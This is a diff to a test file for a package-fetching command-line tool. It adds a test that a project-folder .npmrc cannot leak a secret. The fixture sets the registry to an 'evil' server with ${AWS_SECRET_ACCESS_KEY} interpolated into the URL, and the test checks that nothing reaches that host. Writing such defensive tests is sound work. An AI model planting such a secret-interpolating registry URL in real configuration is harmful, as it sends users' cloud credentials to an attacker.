@@ -1,4 +1,5 @@
-import { readFile } from 'node:fs/promises';
+import { mkdir, readFile, writeFile } from 'node:fs/promises';
+import { join } from 'node:path';
 import { expect, it } from 'vitest';
 import { serveEndpoint } from './testing/endpoint.ts';
 import {
@@ -85,9 +86,10 @@ const indexPlaces: readonly [string, string, (host: string) => string][] = [
   ['pypi:lib', 'PIP_INDEX_URL', (host) => `http://me:${encoded}@${host}/simple/`],
   ['npm:lib', 'npm_config_registry', (host) => `http://me:${encoded}@${host}/`],
 ];
+const refusal: Quoting = (body) => ({ status: 401, type: 'text/plain', body });
 const simple = 'application/vnd.pypi.simple.v1+json';
 const indexes: Readonly<Record<string, Quoting>> = {
-  'refuses and repeats it': (body) => ({ status: 401, type: 'text/plain', body }),
+  'refuses and repeats it': refusal,
   'repeats it in an answer': (quoted) => {
     const dist = { tarball: quoted, integrity: quoted };
     const versions = { '1.0.0': { version: '1.0.0', license: quoted, dist } };
@@ -113,3 +115,26 @@ it.each(
   expect(stderr).toMatch(/^error: Expected /);
   expect(sent.flatMap(leaksIn)).not.toEqual([]);
 });
+
+// reliability: secrets, folder-writer
+it.each(['npm:lib', 'npm:@some/lib', 'pypi:lib'])(
+  'a secret that the current folder asks for, with %s',
+  async (source) => {
+    const { cwd, home, run } = await secretKeeping();
+    const [evil, own] = [await serveQuotes(refusal), await serveQuotes(refusal)];
+    const registry = (host: string) => `http://${host}/\${AWS_SECRET_ACCESS_KEY}/`;
+    await writeFile(join(cwd, 'package.json'), '{}');
+    await writeFile(
+      join(cwd, '.npmrc'),
+      `registry=${registry(evil.host)}\n@some:registry=${registry(evil.host)}\n`,
+    );
+    await writeFile(join(cwd, 'pip.py'), `print("global.index-url='http://${evil.host}/'")`);
+    await writeFile(join(home, '.npmrc'), `registry=http://${own.host}/\n`);
+    await mkdir(join(home, '.pip'));
+    await writeFile(join(home, '.pip/pip.conf'), `[global]\nindex-url = http://${own.host}/\n`);
+    const { code } = await run(['train', '--corpus', source], { AWS_SECRET_ACCESS_KEY: secretOf('aws') });
+    expect(code).toBeGreaterThan(0);
+    expect(evil.sent).toEqual([]);
+    if (source.startsWith('npm:')) expect(own.sent.length).toBe(1);
+  },
+);
